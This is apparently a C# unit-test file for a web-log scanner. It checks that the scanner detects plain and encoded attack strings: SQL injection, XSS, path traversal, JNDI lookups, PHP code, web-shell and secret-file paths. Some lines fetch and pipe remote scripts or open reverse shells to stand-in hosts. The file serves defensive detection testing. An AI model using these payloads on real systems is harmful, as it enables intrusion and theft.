using System.Globalization;
using System.Text;
using SopWebsite.Visitors;
using Xunit.Abstractions;

namespace SopWebsite.Tests.Visitors;

/// <summary>Attacks as they stand in logs, plain and behind every encoding that the scanner undoes.</summary>
public sealed class AttackReplayTests(ITestOutputHelper output)
{
    private static readonly (VisitorCategory Category, string[] Payloads)[] InQuery =
    [
        (VisitorCategory.SqlInjection,
        [
            "1' or '1'='1", "1 or 1=1", "-1 union select 1,2,3,4", "1' union all select null,null,concat(username,0x3a,password) from jos_users-- -",
            "1 and sleep(5)", "1' and (select 5 from (select(sleep(5)))a)-- -", "1;waitfor delay '0:0:5'--",
            "1 and extractvalue(1,concat(0x7e,version()))",
            "1 and updatexml(1,concat(0x7e,(select user())),1)", "1) or (1=1", "' or 1=1#", "admin'--", "1' and 1=2 union select 1,@@version,3#",
            "1 union select table_name from information_schema.tables", "1; drop table jos_users", "1' order by 10--",
            "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
            "1 and ascii(substring((select password from users limit 1),1,1))>64", "1 or benchmark(5000000,md5(1))",
            "1 and (select count(*) from sysobjects)>0",
            "(select load_file('/etc/passwd'))", "1' into outfile '/var/www/x.php", "1 and 7321=7321", "1' and 'a'='a", "1\" or \"1\"=\"1",
            "1 rlike sleep(5)",
            "1 UNION/**/SELECT/**/1,2,3", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3", "1'||(select 1 from dual)||'",
            "if(now()=sysdate(),sleep(15),0)", "1 and exp(~(select*from(select user())x))",
            "1 and json_keys((select convert((select concat(0x7e,version())) using utf8)))", "0 union select group_concat(user,0x3a,pass) from users",
            "1 having 1=1", "1'))) or 1=1--",
        ]),
        (VisitorCategory.CrossSiteScripting,
        [
            "<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
            "javascript:alert(1)",
            "'\" onmouseover=alert(1) x='", "<iframe src=javascript:alert(1)>", "<body onload=prompt(1)>", "<details open ontoggle=confirm(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<video><source onerror=alert(1)>", "<math><mtext></mtext></math>", "\" autofocus onfocus=alert(1) \"",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<input onfocus=eval(1) autofocus>",
            "data:text/html,<script>1</script>", "<marquee onstart=alert(1)>", "document.write('<b>')", "String.fromCharCode(88,83,83)",
            "</script><script>prompt(1)</script>",
        ]),
        (VisitorCategory.Traversal,
        [
            "../../../../etc/passwd", "....//....//....//etc/passwd", "/etc/passwd", "../../configuration.php",
            "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd",
            "..\\..\\..\\windows\\win.ini", "/proc/self/environ", "expect://id", "../../../../../../var/log/apache2/access.log",
            "data://text/plain;base64,PD9waHA=", "../wp-config.php", "c:\\boot.ini",
            "phar://uploads/x.jpg", "/etc/./passwd", "/etc//shadow", "..;/..;/..;/etc/hosts", "../../../../etc/passwd\0.jpg", "zip://x.zip#a.php",
            "../../../.env",
        ]),
        (VisitorCategory.CommandExecution,
        [
            ";id", "|cat /etc/passwd", "`whoami`", "$(curl http://198.51.100.7/x.sh|sh)", "1;wget http://198.51.100.7/a.sh -O /tmp/a",
            "& ping -c 10 127.0.0.1 && id", "|| uname -a",
            "() { :;}; /bin/bash -c id", "cmd.exe /c dir", "powershell -enc AAAA", "/bin/sh -i", ";cat${IFS}/etc/passwd",
            "`nslookup x.example`", ";nc -e /bin/sh 198.51.100.7 4444",
        ]),
        (VisitorCategory.CodeInjection,
        [
            "${jndi:ldap://198.51.100.7/a}", "${${lower:j}ndi:ldap://x/a}", "{{7*7}}", "${7*7}", "<%= 7*7 %>",
            "%{(#a=@java.lang.Runtime@getRuntime())}", "class.module.classLoader.resources",
        ]),
        (VisitorCategory.PhpInjection,
        [
            "<?php system('id'); ?>", "<?=phpinfo();?>", "eval(base64_decode('cGhwaW5mbygpOw=='))", "system('id')",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "phpinfo()", "assert($_POST['x'])", "die(md5('x'))",
            "file_put_contents('x.php','a')", "}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2", "shell_exec('ls')", "call_user_func('system','id')",
            "print(md5(31337))", "passthru(\"id\")",
        ]),
    ];

    private static readonly (VisitorCategory Category, string[] Targets)[] Whole =
    [
        (VisitorCategory.RemoteInclusion,
        [
            "/index.php?page=http://198.51.100.7/shell.txt?", "/index.php?mosConfig_absolute_path=http://evil.example/c.txt",
            "/?file=https://evil.example/x.php", "/?x=http://198.51.100.7/a", "/?include=ftp://evil.example/a",
            "/index.php?option=com_x&controller=http://evil.example/i", "/?a=http://evil.example/r57.txt??",
            "/?template=//evil.example/a.txt&dir=http://evil.example", "/?GLOBALS[mosConfig_absolute_path]=http://evil.example/x",
        ]),
        (VisitorCategory.WebShell,
        [
            "/c99.php", "/images/r57.php", "/wp-content/uploads/2026/11/x.php", "/images/stories/post.php", "/wso.php", "/alfa.php", "/tmp/a.php",
            "/wp-content/themes/twentyten/404.php", "/indoxploit.php", "/b374k.php",
            "/images/banner.php.jpg", "/media/x.phtml", "/logs/sess.php5", "/.well-known/a.php", "/shell.php?cmd=id", "/marijuana.php", "/gel4y.php",
            "/xmrlpc.php", "/wp-conflg.php", "/1337.php", "/Uploads/Tmp.PHP",
            "/?act=ls&d=/srv/situs", "/images/jdownloads/screenshots/kiss.php", "/anonymousfox.php", "/lock360.php",
        ]),
        (VisitorCategory.SensitiveFile,
        [
            "/.env", "/.env.bak", "/.git/config", "/.git/HEAD", "/backup.sql", "/db.sql.gz", "/configuration.php~", "/configuration.php.bak",
            "/wp-config.php.bak", "/wp-config.php.save", "/wp-config.txt", "/.svn/entries",
            "/.htpasswd", "/backup.zip", "/public_html.tar.gz", "/.aws/credentials", "/error_log", "/api/index.php/v1/config/application?public=true",
            "/.DS_Store", "/sftp-config.json", "/site/.env", "/dump.sql", "/www.zip",
            "/configuration.php.old", "/.vscode/sftp.json", "/pn-contoh.zip", "/id_rsa", "/docker-compose.yml", "/wp-content/debug.log",
            "/.wp-config.php.swp",
        ]),
        (VisitorCategory.CommandExecution,
        [
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
            "/boaform/admin/formLogin",
            "/actuator/env", "/_ignition/execute-solution", "/cgi-bin/luci/;stok=/locale", "/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/a;sh+/tmp/a",
            "/HNAP1/", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*",
        ]),
        (VisitorCategory.Gambling, ["/slot-gacor/", "/situs-judi-slot/maxwin.html", "/?slot=gacor", "/wp-content/slot88/index.html", "/rtp-live-hari-ini/", "/mahjong-ways-2/"]),
        (VisitorCategory.PhpInjection, ["/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "/index.php?_SESSION[a]=1&GLOBALS[x]=2"]),
    ];

    public static TheoryData<string> Encodings => new(Encoders.Keys);

    private static readonly Dictionary<string, Func<string, string>> Encoders = new()
    {
        ["browser"] = text =>
            string.Concat(
                text.Select(c => char.IsAsciiLetterOrDigit(c) || "-_.!~*'();/?:@=+$,".Contains(c) && c is not ('+' or '&') ? $"{c}" : Percent(c))),
        ["percent-all"] = text => string.Concat(text.Select(Percent)),
        ["percent-lower"] = text => string.Concat(text.Select(c => char.IsAsciiLetterOrDigit(c) ? $"{c}" : Percent(c).ToLowerInvariant())),
        ["double"] = text => string.Concat(text.Select(c => char.IsAsciiLetterOrDigit(c) ? $"{c}" : Percent(c).Replace("%", "%25"))),
        ["triple"] = text => string.Concat(text.Select(c => char.IsAsciiLetterOrDigit(c) ? $"{c}" : Percent(c).Replace("%", "%2525"))),
        ["utf16"] = text => string.Concat(text.Select(c => char.IsAsciiLetterOrDigit(c) ? $"{c}" : $"%u{(int)c:X4}")),
        ["overlong"] = text => string.Concat(text.Select(c => char.IsAsciiLetterOrDigit(c) ? $"{c}" : $"%{0xC0 | c >> 6:X2}%{0x80 | (c & 0x3F):X2}")),
        ["full-width"] = text =>
            string.Concat(text.Select(c => c is > ' ' and < '\x7F' ? Uri.EscapeDataString($"{(char)(c + 0xFEE0)}") : Percent(c))),
        ["plus"] = text => string.Concat(text.Select(c => c == ' ' ? "+" : char.IsAsciiLetterOrDigit(c) ? $"{c}" : Percent(c))),
        ["entities"] = text => string.Concat(text.Select(c => char.IsAsciiLetterOrDigit(c) ? $"{c}" : Uri.EscapeDataString($"&#x{(int)c:x};"))),
        ["mixed-case"] = text =>
            string.Concat(
                text.Select(
                    (c, at) => char.IsAsciiLetter(c) && at % 2 == 0
                        ? $"{char.ToUpperInvariant(c)}"
                        : char.IsAsciiLetterOrDigit(c)
                        ? $"{c}"
                        : Percent(c))),
        ["log-escaped"] = text =>
            string.Concat(
                text.Select(
                    c => c is '"' or '\\'
                        ? $"\\{c}"
                        : c is < ' '
                        ? string.Create(CultureInfo.InvariantCulture, $"\\x{(int)c:x2}")
                        : c is '&' or '+' or '#'
                        ? Percent(c)
                        : $"{c}")),
    };

    [Theory]
    [MemberData(nameof(Encodings))]
    public void PayloadsInQueriesAreFound(string encoding)
    {
        var cases = InQuery.SelectMany(
            group => group.Payloads.Select(payload => (group.Category, Target: "/index.php?option=com_content&id=" + Encoders[encoding](payload))));

        AtLeast95Percent(encoding, cases);
    }

    [Fact]
    public void AttacksInPathsAndWholeTargetsAreFound() =>
        AtLeast95Percent("whole", Whole.SelectMany(group => group.Targets.Select(target => (group.Category, target))));

    [Theory]
    [InlineData("sqlmap/1.8#stable (https://sqlmap.org)", "scanner-agent")]
    [InlineData("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "scanner-agent")]
    [InlineData("Mozilla/5.0 zgrab/0.x", "scanner-agent")]
    [InlineData("WPScan v3.8.25 (https://wpscan.com)", "scanner-agent")]
    [InlineData("() { :; }; /bin/bash -c 'id'", "rce-shellshock")]
    [InlineData("${jndi:ldap://198.51.100.7/a}", "code-lookup")]
    [InlineData("}__test|O:21:\\\"JDatabaseDriverMysqli\\\":3:{s:2:\\\"fc\\\"", "php-object")]
    [InlineData("<script>alert(1)</script>", "xss-tag")]
    [InlineData("<?php eval($_POST[1]); ?>", "php-code")]
    public void UserAgentsAreFound(string agent, string rule) => Assert.Contains(rule, LogText.RulesOf("/", 200, agent));

    [Fact]
    public void AnAttackAnsweredWithSuccessIsHostile()
    {
        var result = LogText.Scan(LogText.Line("/.env", 200, "203.0.113.1"), LogText.Line("/.env", 404, "203.0.113.2"));

        var answered = Assert.Single(result.Visitors, visitor => visitor.Address == "203.0.113.1");
        var refused = Assert.Single(result.Visitors, visitor => visitor.Address == "203.0.113.2");
        Assert.Equal((VisitorVerdict.Hostile, 1L, 30), (answered.Verdict, answered.Succeeded, answered.Score));
        Assert.Equal((VisitorVerdict.Watch, 0L, 5), (refused.Verdict, refused.Succeeded, refused.Score));
        Assert.Equal(1, result.Summary.Succeeded);
    }

    [Fact]
    public void AServedGamblingPageIsNoAttackOfItsVisitorButIsRaised()
    {
        var visitor = Assert.Single(LogText.Scan(LogText.Line("/slot-gacor/", 200)).Visitors);

        Assert.Equal((VisitorVerdict.Suspicious, 0L), (visitor.Verdict, visitor.Succeeded));
        Assert.Contains(visitor.Reasons, reason => reason.Rule == "gambling-served");
    }

    [Fact]
    public void DisguisesAreNamedAsSuch()
    {
        Assert.Contains("evasion-encoding", LogText.RulesOf("/?id=%2527%2520union%2520select%25201,2,3--"));
        Assert.Contains("evasion-encoding", LogText.RulesOf("/?f=..%c0%af..%c0%afetc/passwd"));
        Assert.DoesNotContain("evasion-encoding", LogText.RulesOf("/?id=%27%20union%20select%201,2,3--"));
    }

    private void AtLeast95Percent(string name, IEnumerable<(VisitorCategory Category, string Target)> cases)
    {
        var missed = new StringBuilder();
        int all = 0, found = 0, right = 0;
        foreach (var (category, target) in cases)
        {
            all++;
            var categories = LogText.Scan(LogText.Line(target, 404)).Visitors.SelectMany(visitor => visitor.Reasons).Select(reason => reason.Category)
                .ToHashSet();
            if (categories.Count > 0) found++;
            if (categories.Contains(category)) right++;
            else missed.Append(CultureInfo.InvariantCulture, $"{category} -> [{string.Join(' ', categories)}] {target}\n");
        }
        output.WriteLine($"{name}: {found} of {all} found, {right} in the expected category\n{missed}");
        Assert.True(found * 100 >= all * 95, $"{name}: {found} of {all} found\n{missed}");
        Assert.True(right * 100 >= all * 85, $"{name}: {right} of {all} in the expected category\n{missed}");
    }

    private static string Percent(char value) => string.Create(CultureInfo.InvariantCulture, $"%{(int)value:X2}");
}
